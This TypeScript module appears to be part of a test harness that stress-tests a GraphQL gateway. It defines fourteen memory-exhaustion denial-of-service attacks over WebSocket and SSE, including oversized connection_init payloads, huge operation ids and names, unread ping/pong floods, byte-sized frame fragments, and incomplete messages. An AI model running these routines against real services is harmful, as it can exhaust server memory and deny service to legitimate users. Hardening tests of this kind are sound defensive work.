import type { Socket } from 'node:net'
import type { Attack, AttackRun } from './attack.ts'
import { ANOTHER_ADDRESS, drained, frame, open, openWebSocket, pause, post, goneWithin } from './wire.ts'

/** Three bytes each on the wire, 64 in memory. */
const objects = (count: number): readonly object[] => Array.from({ length: count }, () => ({}))
const MOST = objects(80_000)
const LIVE = 'query @live { users(limit: 1) { users { id } } }'
const LIVE_USER = 'query ($id: String!) @live { user(id: $id) { id } }'
/** A response of some 150 kB, and one of 40. */
const LARGE = `query ($limit: Int!) { ${users(28)} }`
const LIVE_LONG = `query ($limit: Int!) @live { ${users(8)} }`

function users(times: number): string {
  const fields = '(limit: $limit) { users { id name email status } }'
  return Array.from({ length: times }, (_, n) => `a${n}: users${fields}`).join(' ')
}

const subscribe = (id: string, payload: object): Buffer =>
  frame(JSON.stringify({ id, type: 'subscribe', payload }))

/** Keeps so many sockets of one address open; each that the gateway closes is opened again. */
async function keepOpen(
  count: number,
  run: AttackRun,
  fill: (socket: Socket, index: number) => Promise<void> | void,
  init?: object,
): Promise<void> {
  const { signal, target } = run
  const one = async (index: number): Promise<void> => {
    await pause(index * 2, signal)
    while (!signal.aborted) {
      const socket = await openWebSocket(target, signal, {
        localAddress: ANOTHER_ADDRESS,
        payload: { index, ...init },
      })
      socket.resume()
      await fill(socket, index)
      await goneWithin(30_000, socket, signal)
      socket.destroy()
      await pause(200, signal)
    }
  }
  await Promise.all(Array.from({ length: count }, (_, index) => one(index)))
}

/** Subscribes with each payload, as fast as the gateway reads. */
async function subscribeAll(
  socket: Socket,
  count: number,
  of: (n: number) => [string, object],
): Promise<void> {
  for (let n = 0; n < count && !socket.destroyed; n++) {
    socket.write(subscribe(...of(n)))
    await drained(socket)
  }
}

/** Clients that have the gateway hold memory for them, far more than they send. */
export const holderAttacks: readonly Attack[] = [
  {
    name: 'sockets whose connection_init has 80,000 objects',
    run: (run) => keepOpen(400, run, () => {}, { a: MOST }),
  },
  {
    name: 'sockets whose connection_init has 50 kB of text',
    run: (run) => keepOpen(2_000, run, () => {}, { a: 'x'.repeat(50_000) }),
  },
  {
    name: 'live queries with 24,000 objects in variables that they do not declare',
    run: (run) =>
      keepOpen(20, run, (socket) =>
        subscribeAll(socket, 100, (n) => [String(n), { query: LIVE, variables: { n, a: objects(24_000) } }]),
      ),
  },
  {
    name: 'the same over SSE',
    run: async (run) => {
      const { signal, target } = run
      const body = JSON.stringify({ query: LIVE, variables: { a: objects(24_000) } })
      const request = post(body, { headers: 'Accept: text/event-stream\r\nx-graphql-yoga-csrf: 1\r\n' })
      const one = async (index: number): Promise<void> => {
        await pause(index * 30, signal)
        while (!signal.aborted) {
          const socket = await open(target, signal, ANOTHER_ADDRESS)
          socket.resume().write(request)
          await goneWithin(30_000, socket, signal)
          socket.destroy()
          await pause(5_000, signal)
        }
      }
      await Promise.all(Array.from({ length: 400 }, (_, index) => one(index)))
    },
  },
  {
    name: 'live queries with 20 kB of text in a variable that they declare',
    run: (run) =>
      keepOpen(60, run, (socket, index) =>
        subscribeAll(socket, 100, (n) => [
          String(n),
          { query: LIVE_USER, variables: { id: `${index} ${n} ${'x'.repeat(20_000)}` } },
        ]),
      ),
  },
  {
    name: 'operations with 24,000 objects that wait, as the client does not read',
    run: (run) =>
      keepOpen(20, run, async (socket) => {
        socket.pause()
        await subscribeAll(socket, 100, (n) =>
          n < 50
            ? [String(n), { query: LARGE, variables: { limit: 100 } }]
            : [String(n), { query: '{ __typename }', variables: { a: objects(24_000) } }],
        )
      }),
  },
  {
    name: 'operations whose ids have 250 kB',
    run: (run) =>
      keepOpen(20, run, (socket) =>
        subscribeAll(socket, 100, (n) => [`${n} ${'x'.repeat(250_000)}`, { query: LIVE }]),
      ),
  },
  {
    name: 'live queries with 20,000 keys in extensions',
    run: (run) =>
      keepOpen(20, run, (socket) =>
        subscribeAll(socket, 100, (n) => [
          String(n),
          {
            query: LIVE,
            extensions: Object.fromEntries(Array.from({ length: 20_000 }, (_, key) => [`${key}a`, n])),
          },
        ]),
      ),
  },
  {
    name: 'operation names of 250 kB',
    run: (run) =>
      keepOpen(20, run, (socket) =>
        subscribeAll(socket, 100, (n) => [String(n), { query: LIVE, operationName: 'x'.repeat(250_000) }]),
      ),
  },
  {
    name: 'messages of 250 kB whose last byte does not come',
    run: (run) =>
      keepOpen(2_000, run, (socket) => {
        const message = subscribe('a', { query: ' '.repeat(250_000) })
        socket.write(message.subarray(0, -1))
      }),
  },
  {
    name: 'messages in fragments of a byte, each in a packet full of pongs',
    run: (run) =>
      keepOpen(20, run, async (socket) => {
        // A fragment keeps the buffer of what was read with it.
        const pong = Buffer.concat([Buffer.of(0x8a, 0xfd, 0, 0, 0, 0), Buffer.alloc(125)])
        for (let n = 0; n < 900 && !socket.destroyed && !run.signal.aborted; n++) {
          const part = frame('x')
          part[0] = n === 0 ? 0x01 : 0x00
          socket.write(Buffer.concat([part, ...Array<Buffer>(20).fill(pong)]))
          await pause(25, run.signal)
        }
      }),
  },
  {
    name: 'pings with 250 kB, whose pongs are not read',
    run: (run) =>
      keepOpen(50, run, async (socket) => {
        socket.pause()
        const ping = frame(JSON.stringify({ type: 'ping', payload: { a: 'x'.repeat(250_000) } }))
        while (!socket.destroyed && !run.signal.aborted) {
          socket.write(ping)
          await drained(socket)
        }
      }),
  },
  {
    name: 'frames of pings, whose pongs are not read',
    run: (run) =>
      keepOpen(200, run, async (socket) => {
        socket.pause()
        const ping = Buffer.concat([Buffer.of(0x89, 0xfd, 0, 0, 0, 0), Buffer.alloc(125)])
        while (!socket.destroyed && !run.signal.aborted) {
          socket.write(Buffer.concat(Array<Buffer>(90).fill(ping)))
          await pause(100, run.signal)
        }
      }),
  },
  {
    name: 'live queries with responses of 40 kB, each of its own',
    run: (run) =>
      keepOpen(50, run, (socket) =>
        subscribeAll(socket, 50, (n) => [String(n), { query: LIVE_LONG, variables: { limit: 100 - n } }]),
      ),
  },
]
